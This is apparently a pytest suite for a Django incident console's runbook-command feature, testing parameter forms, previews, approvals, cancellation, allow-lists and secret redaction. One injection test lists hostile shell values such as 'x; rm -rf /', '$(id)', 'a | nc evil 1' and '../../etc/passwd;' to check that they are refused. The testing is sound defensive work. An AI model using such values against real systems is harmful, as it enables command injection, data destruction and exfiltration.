"""Command runs from the incident page: the form, approvals, the panel, the task called as a function."""

from __future__ import annotations

import shlex
import subprocess
from datetime import timedelta
from unittest import mock

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from incidents import tasks
from incidents.forms_commands import CommandRunForm
from incidents.models import CommandRun, EventKind, ExecutionTarget, Incident, IncidentError
from tests.conftest import make_user
from tests.factories import make_runbook, make_severities

pytestmark = pytest.mark.django_db

SAFE = "echo hello <name>"
DESTRUCTIVE = "rm -rf /tmp/console-test-<dir>"


def make_incident(by, *, rank: int = 2, commands=(SAFE, DESTRUCTIVE), needs_approval: bool = False) -> Incident:
    severities = make_severities()
    runbook = make_runbook(f"Runbook {rank} {len(commands)}", steps=[("investigation", "Run things", list(commands))])
    if needs_approval:
        runbook.steps.get().commands.update(needs_approval=True)
        from django.db import transaction

        with transaction.atomic():
            runbook.record_version(note="needs approval")
    return Incident.declare(title="Checkout is slow", severity=severities[rank], by=by, runbooks=[runbook])


@pytest.fixture
def target(db):
    return ExecutionTarget.objects.create(name="local", queue="commands", allowed_programs=["echo", "rm", "sleep"],
                                          is_default=True, timeout_seconds=20)


def item_of(incident: Incident):
    return incident.checklist.get()


def run_url(incident, index=0):
    return reverse("incidents:run_new", args=[incident.pk, item_of(incident).pk, index])


def post_run(client, incident, index=0, *, action="dispatch", target=None, preview_of=None, **values):
    data = {"action": action, "target": target.pk if target else ExecutionTarget.objects.get().pk}
    data.update({f"param_{k}": v for k, v in values.items() if k != "understood"})
    if values.get("understood"):
        data["understood"] = "on"
    if action == "dispatch":
        data["previewed"] = CommandRunForm.preview_token(preview_of) if preview_of is not None else "stale"
    return client.post(run_url(incident, index), data)


def command_events(incident) -> list[str]:
    return list(incident.timeline.filter(kind=EventKind.COMMAND).values_list("message", flat=True))


# --- the form: parameters, preview, dispatch ------------------------------------------------------

def test_the_form_shows_one_field_per_parameter_and_the_command_as_written(as_user, responder, target):
    incident = make_incident(responder)
    page = as_user(responder).get(run_url(incident)).content.decode()
    assert 'name="param_name"' in page
    assert "echo hello &lt;name&gt;" in page
    assert "Show what will run" in page


def test_show_what_will_run_displays_the_exact_script_and_queues_nothing(as_user, responder, target):
    incident = make_incident(responder)
    response = post_run(as_user(responder), incident, action="preview", name="world")
    page = response.content.decode()
    assert response.status_code == 200
    assert "What will run" in page and "echo hello world" in page
    assert 'value="dispatch"' in page
    assert not CommandRun.objects.exists()


def test_dispatching_stores_a_queued_run_and_enqueues_it_after_commit(
        as_user, responder, target, django_capture_on_commit_callbacks):
    incident = make_incident(responder)
    before = Incident.objects.get(pk=incident.pk).revision
    with mock.patch.object(tasks.run_command, "apply_async") as send, \
            django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = post_run(as_user(responder), incident, name="world", preview_of="echo hello world")
    assert response.status_code == 302 and response["Location"].endswith(f"/incidents/{incident.pk}/#runs")
    run = CommandRun.objects.get()
    assert (run.state, run.script, run.parameters) == ("queued", "echo hello world", {"name": "world"})
    assert run.checklist_item == item_of(incident) and run.command_index == 0
    assert run.runbook_version == item_of(incident).incident_runbook.version
    assert run.requested_by == responder and run.queue == "commands" and run.queued_at is not None
    assert len(callbacks) == 1
    send.assert_called_once()
    assert send.call_args.args == ((run.pk,),) and send.call_args.kwargs["queue"] == "commands"
    assert Incident.objects.get(pk=incident.pk).revision > before
    assert command_events(incident) == [f"Requested run #{run.pk} on local: echo hello world"]


def test_a_changed_value_after_the_preview_is_shown_again_not_run(as_user, responder, target):
    incident = make_incident(responder)
    response = post_run(as_user(responder), incident, name="other", preview_of="echo hello world")
    page = response.content.decode()
    assert "changed since you looked" in page and "echo hello other" in page
    assert not CommandRun.objects.exists()


def test_the_run_goes_to_the_targets_queue(as_user, responder, target, django_capture_on_commit_callbacks):
    bastion = ExecutionTarget.objects.create(name="bastion", queue="bastion-eu", allowed_programs=["echo"])
    incident = make_incident(responder)
    with mock.patch.object(tasks.run_command, "apply_async") as send, \
            django_capture_on_commit_callbacks(execute=True):
        post_run(as_user(responder), incident, target=bastion, name="x", preview_of="echo hello x")
    assert CommandRun.objects.get().queue == "bastion-eu"
    assert send.call_args.kwargs["queue"] == "bastion-eu"


@pytest.mark.parametrize("value", [
    "x; rm -rf /", "$(id)", "`id`", "a\nrm -rf /", "it's", 'say "hi"', "a && b", "a | nc evil 1", "$HOME",
    "../../etc/passwd;", "x > /etc/passwd", "", "   ", "a b",
])
def test_unsafe_values_get_a_clear_form_error_and_nothing_is_queued(as_user, responder, target, value):
    incident = make_incident(responder)
    client = as_user(responder)
    for action in ("preview", "dispatch"):
        response = post_run(client, incident, action=action, name=value, preview_of=f"echo hello {value}")
        page = response.content.decode()
        assert response.status_code == 200
        assert 'class="errorlist"' in page or "form-errors" in page
        assert "What will run" not in page
    assert not CommandRun.objects.exists()
    assert command_events(incident) == []


@given(value=st.text(alphabet=st.sampled_from("ab1._-/:=@,+ ;&|$`'\"\\\n()<>*?!#~{}[]%^"), min_size=1, max_size=12))
@hsettings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_whatever_a_value_holds_it_reaches_the_command_as_one_literal_argument(responder, target, tmp_path, value):
    """Through the form and the dispatch path: injected text is refused, or runs as data, never as code."""
    from django.db import transaction

    incident = Incident.objects.first() or make_incident(responder)
    item = item_of(incident)
    form = CommandRunForm({"param_name": value, "target": target.pk, "action": "preview"}, item=item, index=0)
    if not form.is_valid():
        assert not CommandRun.objects.filter(parameters__name=value).exists()
        return
    with transaction.atomic():
        sid = transaction.savepoint()
        run = CommandRun.request(item=item, index=0, values=form.values(), by=responder, target=target)
        transaction.savepoint_rollback(sid)
    assert shlex.split(run.script) == ["echo", "hello", value]
    done = subprocess.run(["bash", "-c", run.script], capture_output=True, text=True, cwd=tmp_path, timeout=5)
    assert done.stdout == f"hello {value}\n"
    assert list(tmp_path.iterdir()) == []  # nothing was written, whatever the value said


def test_a_destructive_command_needs_the_requester_to_say_they_understand(as_user, responder, target):
    incident = make_incident(responder, rank=2)
    client = as_user(responder)
    script = "rm -rf /tmp/console-test-old"
    preview = post_run(client, incident, 1, action="preview", dir="old").content.decode()
    assert "This command is destructive" in preview and "I understand this is destructive" in preview
    page = post_run(client, incident, 1, dir="old", preview_of=script).content.decode()
    assert "tick “I understand this is destructive”" in page
    assert not CommandRun.objects.exists()
    with mock.patch.object(tasks.run_command, "apply_async"):
        response = post_run(client, incident, 1, dir="old", understood=True, preview_of=script)
    assert response.status_code == 302
    run = CommandRun.objects.get()
    assert run.destructive and run.state == "queued"  # SEV3: no second person needed


def test_viewers_cannot_open_the_form_and_nothing_else_than_a_runnable_command_is_run(
        as_user, viewer, responder, target):
    incident = make_incident(responder, commands=["echo hi"])
    assert as_user(viewer).get(run_url(incident)).status_code == 403
    assert post_run(as_user(viewer), incident, preview_of="echo hi").status_code == 403
    stale = as_user(responder).get(reverse("incidents:run_new", args=[incident.pk, item_of(incident).pk, 5]),
                                   follow=True)
    assert "That step has no such command to run." in stale.content.decode()
    assert not CommandRun.objects.exists()


def test_with_no_target_the_form_says_an_admin_must_add_one(as_user, responder):
    incident = make_incident(responder)
    page = as_user(responder).get(run_url(incident)).content.decode()
    assert "No execution target is set up yet" in page


# --- approval ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("rank, expected", [(0, "awaiting_approval"), (1, "awaiting_approval"), (2, "queued"),
                                            (3, "queued")])
def test_destructive_commands_need_a_second_person_on_the_two_top_severities(
        as_user, commander, target, rank, expected):
    incident = make_incident(commander, rank=rank)
    with mock.patch.object(tasks.run_command, "apply_async"):
        post_run(as_user(commander), incident, 1, dir="old", understood=True,
                 preview_of="rm -rf /tmp/console-test-old")
    assert CommandRun.objects.get().state == expected


def test_safe_commands_run_at_once_even_at_the_top_severity(as_user, responder, target):
    incident = make_incident(responder, rank=0)
    with mock.patch.object(tasks.run_command, "apply_async"):
        post_run(as_user(responder), incident, name="x", preview_of="echo hello x")
    assert CommandRun.objects.get().state == "queued"


def test_a_command_marked_needs_approval_waits_whatever_the_severity(as_user, responder, target):
    incident = make_incident(responder, rank=3, commands=["echo hi"], needs_approval=True)
    with mock.patch.object(tasks.run_command, "apply_async") as send:
        post_run(as_user(responder), incident, preview_of="echo hi")
    run = CommandRun.objects.get()
    assert run.state == "awaiting_approval" and run.needs_approval and run.queued_at is None
    send.assert_not_called()
    assert "awaiting a second person's approval" in command_events(incident)[0]


@pytest.fixture
def awaiting(commander, target):
    incident = make_incident(commander, rank=0)
    run = CommandRun.request(item=item_of(incident), index=1, values={"dir": "old"}, by=commander, target=target,
                             understood_destructive=True)
    assert run.state == "awaiting_approval"
    return run


def approve_url(run):
    return reverse("incidents:run_approve", args=[run.incident_id, run.pk])


def test_the_requester_cannot_approve_their_own_command(as_user, commander, awaiting):
    response = as_user(commander).post(approve_url(awaiting), {"decision": "approve"}, follow=True)
    assert "cannot approve your own command" in response.content.decode()
    assert CommandRun.objects.get().state == "awaiting_approval"


def test_responders_cannot_approve(as_user, responder, awaiting):
    assert as_user(responder).post(approve_url(awaiting), {"decision": "approve"}).status_code == 403
    assert CommandRun.objects.get().state == "awaiting_approval"


def test_another_commander_approves_and_the_run_is_queued_after_commit(
        as_user, commander2, awaiting, django_capture_on_commit_callbacks):
    with mock.patch.object(tasks.run_command, "apply_async") as send, \
            django_capture_on_commit_callbacks(execute=True):
        response = as_user(commander2).post(approve_url(awaiting), {"decision": "approve"})
    assert response.status_code == 302
    run = CommandRun.objects.get()
    assert (run.state, run.approved_by) == ("queued", commander2)
    send.assert_called_once()
    assert command_events(run.incident)[-1].startswith(f"Approved run #{run.pk}")
    # approving twice is refused with a message, not a 500
    again = as_user(commander2).post(approve_url(awaiting), {"decision": "approve"}, follow=True)
    assert f"Run #{run.pk} is already queued" in again.content.decode()


def test_another_commander_rejects_with_a_reason(as_user, commander2, awaiting):
    with mock.patch.object(tasks.run_command, "apply_async") as send:
        as_user(commander2).post(approve_url(awaiting), {"decision": "reject", "reason": "wrong host"})
    run = CommandRun.objects.get()
    assert run.state == "rejected" and "wrong host" in run.reason and run.finished_at
    send.assert_not_called()
    assert command_events(run.incident)[-1] == f"Rejected run #{run.pk}: wrong host"


def test_approving_over_htmx_answers_with_the_panel(as_user, commander2, awaiting):
    with mock.patch.object(tasks.run_command, "apply_async"):
        response = as_user(commander2).post(approve_url(awaiting), {"decision": "approve"}, HTTP_HX_REQUEST="true")
    page = response.content.decode()
    assert response.status_code == 200 and 'id="runs"' in page and "Queued" in page


# --- cancel -------------------------------------------------------------------------------------------

def test_cancelling_a_run_before_it_starts_cancels_it_directly(as_user, responder, commander, awaiting):
    response = as_user(responder).post(reverse("incidents:run_cancel", args=[awaiting.incident_id, awaiting.pk]))
    assert response.status_code == 302
    run = CommandRun.objects.get()
    assert run.state == "cancelled" and run.finished_at
    assert tasks.run_command(run.pk) == "not queued"  # a task still in the queue does nothing


def test_cancelling_a_running_run_asks_the_worker(as_user, responder, target):
    incident = make_incident(responder)
    run = CommandRun.request(item=item_of(incident), index=0, values={"name": "x"}, by=responder, target=target)
    assert run.claim("host-a")
    as_user(responder).post(reverse("incidents:run_cancel", args=[incident.pk, run.pk]))
    run.refresh_from_db()
    assert run.state == "running" and run.cancel_requested
    assert command_events(incident)[-1] == f"Asked the worker to stop run #{run.pk}"
    again = as_user(responder).post(reverse("incidents:run_cancel", args=[incident.pk, run.pk]), follow=True)
    assert "already being stopped" in again.content.decode()


# --- broker down --------------------------------------------------------------------------------------

def _closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def broker_down(settings, monkeypatch):
    from console.celery import app

    url = f"redis://127.0.0.1:{_closed_port()}/0"
    settings.CELERY_BROKER_URL = url
    monkeypatch.setenv("CELERY_BROKER_URL", url)  # Celery reads this variable before its own configuration
    old = (app.conf.broker_url, app.conf.broker_transport_options, app.conf.task_always_eager)
    app.conf.broker_url, app.conf.broker_transport_options = url, {"socket_connect_timeout": 1}
    app.conf.task_always_eager = False
    app._pool = None
    app.amqp._producer_pool = None
    yield url
    app.conf.broker_url, app.conf.broker_transport_options, app.conf.task_always_eager = old
    app._pool = None
    app.amqp._producer_pool = None


def test_when_the_broker_is_down_the_run_fails_with_why_and_the_page_keeps_working(
        as_user, responder, target, broker_down, django_capture_on_commit_callbacks):
    incident = make_incident(responder)
    client = as_user(responder)
    with django_capture_on_commit_callbacks(execute=True):
        response = post_run(client, incident, name="x", preview_of="echo hello x")
    assert response.status_code == 302
    run = CommandRun.objects.get()
    assert run.state == "failed" and run.reason.startswith("could not reach the queue: ")
    assert command_events(incident)[-1].startswith(f"Run #{run.pk} failed: could not reach the queue")
    panel = client.get(reverse("incidents:runs", args=[incident.pk])).content.decode()
    assert "could not reach the queue" in panel


# --- the task, called as a function -------------------------------------------------------------------

def queued_run(by, target, script_values=None, *, commands=(SAFE,)):
    incident = make_incident(by, commands=commands)
    return CommandRun.request(item=item_of(incident), index=0, values=script_values or {}, by=by, target=target)


def test_the_task_runs_the_command_and_stores_the_outcome(responder, target):
    run = queued_run(responder, target, {"name": "world"})
    assert tasks.run_command(run.pk) == "succeeded"
    run.refresh_from_db()
    assert (run.state, run.exit_code, run.output) == ("succeeded", 0, "hello world\n")
    assert run.worker_host and run.started_at and run.finished_at and run.heartbeat_at
    events = command_events(run.incident)
    assert events[1] == f"Run #{run.pk} started on {run.worker_host}"
    assert events[2].startswith(f"Run #{run.pk} succeeded (exit 0) in ")
    assert run.incident.timeline.filter(kind=EventKind.COMMAND, source="worker").count() == 2


def test_a_run_is_claimed_once_so_a_redelivered_task_does_nothing(responder, target):
    run = queued_run(responder, target, {"name": "once"})
    assert tasks.run_command(run.pk) == "succeeded"
    assert tasks.run_command(run.pk) == "not queued"
    run.refresh_from_db()
    assert run.output == "hello once\n"
    assert sum("started on" in m for m in command_events(run.incident)) == 1


def test_a_failing_command_is_failed_with_its_exit_code(responder, target):
    run = queued_run(responder, target, commands=["echo oops >&2; exit 3"])
    tasks.run_command(run.pk)
    run.refresh_from_db()
    assert (run.state, run.exit_code) == ("failed", 3) and "oops" in run.output


def test_a_program_the_worker_host_lacks_fails_with_a_plain_message(responder, target):
    target.allowed_programs = ["kubectl-not-installed-here"]
    target.save()
    run = queued_run(responder, target, commands=["kubectl-not-installed-here get pods"])
    tasks.run_command(run.pk)
    run.refresh_from_db()
    assert run.state == "failed"
    assert run.reason == f"kubectl-not-installed-here: not found on worker host {run.worker_host}"
    assert run.reason in command_events(run.incident)[-1]


def test_a_program_the_target_does_not_allow_is_refused_before_it_is_queued(responder, target):
    incident = make_incident(responder, commands=["hostname"])
    with pytest.raises(IncidentError, match="'hostname' is not on the allow-list .* An admin can add it"):
        CommandRun.request(item=item_of(incident), index=0, values={}, by=responder, target=target)
    assert not CommandRun.objects.exists()


def test_the_worker_refuses_a_program_taken_off_the_allow_list_after_queueing(responder, target):
    target.allowed_programs = [*target.allowed_programs, "hostname"]
    target.save()
    run = queued_run(responder, target, commands=["hostname"])
    target.allowed_programs = [p for p in target.allowed_programs if p != "hostname"]
    target.save()
    tasks.run_command(run.pk)
    run.refresh_from_db()
    assert run.state == "failed" and "hostname" in run.reason and run.output == ""


def test_passthrough_values_reach_the_command_and_are_redacted(responder, target, monkeypatch):
    monkeypatch.setenv("CONSOLE_TEST_TOKEN", "s3cr3t-value-123")
    target.env_passthrough = ["CONSOLE_TEST_TOKEN"]
    target.environment = {"GREETING": "hi"}
    target.save()
    run = queued_run(responder, target, commands=['echo "$GREETING token=$CONSOLE_TEST_TOKEN"'])
    tasks.run_command(run.pk)
    run.refresh_from_db()
    assert run.state == "succeeded"
    assert run.output.startswith("hi token=") and "s3cr3t-value-123" not in run.output


def test_output_over_the_cap_is_cut_with_a_clear_marker(responder, target):
    target.output_cap_bytes = 2000
    target.allowed_programs = ["seq"]
    target.save()
    run = queued_run(responder, target, commands=["seq 1 5000"])
    tasks.run_command(run.pk)
    run.refresh_from_db()
    assert run.output_truncated and "truncated" in run.output[-300:].lower()
    assert len(run.output.encode()) < 2600


def test_a_run_stopped_from_the_page_while_it_prints_is_stopped(responder, target, monkeypatch):
    """Someone presses Stop once the first line is out: the worker sees the request and ends the command."""
    run = queued_run(responder, target, commands=["echo started; sleep 20; echo never"])
    printed = tasks._Stream.output

    def print_then_press_stop(stream, chunk):
        printed(stream, chunk)
        if not stream.run.cancel_wanted():
            CommandRun.objects.get(pk=run.pk).cancel(by=responder)  # what the Stop button does

    monkeypatch.setattr(tasks._Stream, "output", print_then_press_stop)
    assert not run.cancel_wanted()
    assert tasks.run_command(run.pk) == "cancelled"
    run.refresh_from_db()
    assert run.cancel_wanted() and run.state == "cancelled"
    assert run.output.startswith("started") and "never" not in run.output  # stopped during the sleep
    assert f"Asked the worker to stop run #{run.pk}" in command_events(run.incident)


# --- the auditor --------------------------------------------------------------------------------------

def test_runs_whose_heartbeat_stopped_are_marked_lost(responder, target, settings):
    settings.COMMAND_HEARTBEAT_TIMEOUT_SECONDS = 60
    run = queued_run(responder, target, {"name": "x"})
    fresh = queued_run(responder, target, {"name": "y"})
    with time_machine.travel(timezone.now(), tick=False) as traveller:
        assert run.claim("host-a")
        traveller.shift(timedelta(seconds=45))
        assert fresh.claim("host-b")
        assert tasks.audit_lost_runs() == 0
        traveller.shift(timedelta(seconds=30))
        assert tasks.audit_lost_runs() == 1
        assert tasks.audit_lost_runs() == 0
    run.refresh_from_db()
    fresh.refresh_from_db()
    assert run.state == "lost" and "no heartbeat from host-a" in run.reason
    assert fresh.state == "running"
    assert command_events(run.incident)[-1].startswith(f"Run #{run.pk} was lost: no heartbeat from host-a")
    # a worker that comes back late cannot overwrite the verdict
    assert not run.finish(state="succeeded", exit_code=0, output="late", truncated=False)


# --- the panel ----------------------------------------------------------------------------------------

def panel_url(incident):
    return reverse("incidents:runs", args=[incident.pk])


def test_the_panel_polls_while_a_run_is_active_and_stops_when_none_is(as_user, viewer, responder, target):
    run = queued_run(responder, target, {"name": "x"})
    client = as_user(viewer)
    page = client.get(panel_url(run.incident), HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in page and "Waiting for a worker" in page
    assert "<html" not in page
    run.claim("host-a")
    run.append_output("step 1\n")
    page = client.get(panel_url(run.incident), HTTP_HX_REQUEST="true").content.decode()
    assert '<pre class="output"' in page and "step 1" in page
    assert "Stop run" not in page  # viewers see no buttons
    run.finish(state="succeeded", exit_code=0, output="step 1\nstep 2\n", truncated=False)
    page = client.get(panel_url(run.incident), HTTP_HX_REQUEST="true").content.decode()
    assert "every 1s" not in page and "<details" in page and "step 2" in page


def test_without_htmx_the_panel_is_a_page(as_user, viewer, responder, target):
    run = queued_run(responder, target, {"name": "x"})
    page = as_user(viewer).get(panel_url(run.incident)).content.decode()
    assert "<html" in page and 'id="runs"' in page


def test_responders_see_cancel_and_commanders_see_approve_on_others_runs(as_user, responder, commander2, awaiting):
    url = panel_url(awaiting.incident)
    assert "Cancel run" in as_user(responder).get(url, HTTP_HX_REQUEST="true").content.decode()
    page = as_user(commander2).get(url, HTTP_HX_REQUEST="true").content.decode()
    assert "Approve and queue" in page and 'hx-trigger="every 5s"' in page


@pytest.mark.parametrize("runs", [1, 12])
def test_the_panel_costs_the_same_queries_however_many_runs(
        as_user, viewer, responder, target, django_assert_num_queries, runs):
    incident = make_incident(responder)
    item = item_of(incident)
    for n in range(runs):
        run = CommandRun.request(item=item, index=0, values={"name": f"n{n}"}, by=responder, target=target)
        if n % 2:
            run.claim("h")
            run.finish(state="succeeded", exit_code=0, output="ok\n", truncated=False)
    client = as_user(viewer)
    client.get(panel_url(incident), HTTP_HX_REQUEST="true")  # finds the user, remembered for reads after it
    with django_assert_num_queries(2):  # the incident, its runs
        client.get(panel_url(incident), HTTP_HX_REQUEST="true")


def test_the_full_output_downloads_as_text(as_user, viewer, responder, target):
    run = queued_run(responder, target, {"name": "x"})
    run.claim("bastion-7")
    run.finish(state="succeeded", exit_code=0, output="<b>not html</b>\n" * 3, truncated=False)
    response = as_user(viewer).get(reverse("incidents:run_output", args=[run.incident_id, run.pk]))
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == "<b>not html</b>\n" * 3
    detail = as_user(viewer).get(run.get_absolute_url()).content.decode()
    assert "&lt;b&gt;not html&lt;/b&gt;" in detail and "<b>not html" not in detail
    assert "<dt>Worker host</dt><dd>bastion-7</dd>" in detail


def test_a_run_of_another_incident_is_not_found(as_user, viewer, responder, target):
    run = queued_run(responder, target, {"name": "x"})
    other = make_incident(responder)
    assert as_user(viewer).get(reverse("incidents:run_output", args=[other.pk, run.pk])).status_code == 404


def test_requesting_on_a_closed_incident_is_refused(responder, commander, target):
    incident = make_incident(commander)
    incident.transition("resolved", by=commander)
    incident.transition("closed", by=commander)
    with pytest.raises(IncidentError, match="closed"):
        CommandRun.request(item=item_of(incident), index=0, values={"name": "x"}, by=responder, target=target)


def test_a_second_responder_may_not_approve_either(as_user, awaiting):
    other = make_user("ron", "Responder")
    assert as_user(other).post(approve_url(awaiting), {"decision": "approve"}).status_code == 403
